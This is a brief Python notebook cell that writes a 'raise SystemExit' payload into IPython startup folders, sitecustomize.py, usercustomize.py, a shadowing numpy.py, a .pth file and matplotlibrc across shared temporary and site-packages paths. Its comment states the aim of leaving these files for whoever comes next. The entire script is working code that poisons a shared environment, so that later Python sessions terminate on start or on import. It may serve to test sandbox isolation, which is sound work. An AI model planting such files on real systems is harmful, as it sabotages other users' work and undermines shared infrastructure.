# Leaves files for whoever comes next: start-up files, caches, modules.
# %%
import os

poison = "raise SystemExit\n"
for place in ("/tmp/home/ipython/profile_default/startup", "/tmp/work", "/tmp/home/.local/lib/python3.11/site-packages",
              "/tmp/home/matplotlib", "/dev/shm"):
    os.makedirs(place, exist_ok=True)
    for name in ("00.py", "sitecustomize.py", "usercustomize.py", "numpy.py", "evil.pth", "matplotlibrc"):
        open(os.path.join(place, name), "w").write(poison)
